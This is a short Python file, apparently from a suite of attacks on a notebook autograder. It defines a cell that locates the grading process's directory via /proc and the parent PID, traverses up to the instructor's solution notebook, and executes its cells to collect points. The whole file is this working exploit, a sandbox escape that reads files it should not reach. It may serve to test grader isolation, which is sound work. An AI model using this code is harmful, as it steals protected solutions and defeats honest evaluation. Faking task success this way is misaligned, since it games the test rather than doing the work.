"""The solution is read by way of the parent's folder."""

from attacks import ZERO

PAYS_ON = "one process"
GAIN = "points"
CELLS = [
    ZERO,
    """
import os
where = '/proc/%d/cwd' % os.getppid()
import json

def take(path):
    try:
        for cell in json.load(open(path))["cells"]:
            exec("".join(cell["source"]), globals())
    except OSError:
        pass

take(where + "/../../../source/a1/a1.ipynb")
""",
]
